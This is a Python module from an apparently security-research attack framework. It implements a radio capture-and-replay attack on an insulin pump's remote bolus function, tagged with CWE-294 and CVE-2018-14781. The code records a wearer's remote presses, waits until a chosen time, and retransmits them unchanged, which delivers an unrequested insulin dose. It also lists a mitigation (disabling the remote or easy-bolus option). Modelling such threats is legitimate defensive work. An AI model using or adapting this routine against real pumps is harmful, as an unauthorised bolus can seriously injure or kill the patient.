"""Capture and replay: send again, hours later, what the remote sent when the wearer pressed it."""

from __future__ import annotations

from banting.attacks.sources import CLEARTEXT, FOB
from banting.errors import TechniqueFailed
from banting.interfaces import Grip, Listen, Program, Transmit, Wait
from banting.schema.effects import Frame
from banting.schema.facts import Fact, Rule, goal_fact, position_fact
from banting.schema.intents import Exchange
from banting.schema.question import Goal, Position
from banting.schema.verdict import TechniqueShown

__all__ = ["CAPTURE_REPLAY", "CaptureAndReplay"]

_QUIET_MS = 60_000  # a press belongs to the same bolus when it follows within a minute
_BETWEEN_MS = 2_000


class CaptureAndReplay:
    """Record the remote's presses for one bolus; send the same bytes again."""

    shown = TechniqueShown(
        id="capture-and-replay",
        title="Capture and replay a press of the remote",
        what="a recorder in range keeps the bytes of one remote bolus and sends them again later",
        stop_it="turn the remote option or easy bolus off (both are off by default)",
        cwe=("CWE-294",),
        cve=("CVE-2018-14781",),
        emb3d=("TID-407", "TID-221"),
        attack_ics=("T0887", "T0855"),
        sources=(FOB, CLEARTEXT),
    )
    rules: tuple[Rule, ...] = (
        Rule(
            id="replay-remote-bolus",
            technique="capture-and-replay",
            needs=frozenset(
                {
                    position_fact(Position.RADIO),
                    Fact("air.carries-remote-id"),
                    Fact("pump.hears-remote"),
                    Fact("pump.easy-bolus"),
                }
            ),
            gives=goal_fact(Goal.G1),
            says="record one remote bolus and send the same bytes again",
        ),
    )

    def perform(self, rule: Rule, grip: Grip) -> Program:
        """Listen for one bolus' presses, wait for the hour, send them again."""
        del rule
        first = yield Listen(link="radio", until_ms=grip.strike_ms)
        while first is not None and grip.dialect.counter_in(first.raw) is None:
            first = yield Listen(link="radio", until_ms=grip.strike_ms)
        if first is None:
            raise TechniqueFailed("no press of the remote was heard")
        presses = [first]
        more: Frame | None = first
        while more is not None:
            more = yield Listen(link="radio", until_ms=first.at_ms + _QUIET_MS)
            if more is not None and grip.dialect.counter_in(more.raw) is not None:
                presses.append(more)
        yield Wait(until_ms=grip.strike_ms)
        for press in presses:
            exchange = Exchange(
                raw=press.raw, repeats=press.repeats, wait_ms=_BETWEEN_MS, says="the same press"
            )
            yield Transmit(link="radio", exchange=exchange)
            yield Wait(until_ms=grip.now_ms + _BETWEEN_MS)
        return f"sent {len(presses)} captured presses again, byte for byte"


CAPTURE_REPLAY = CaptureAndReplay()
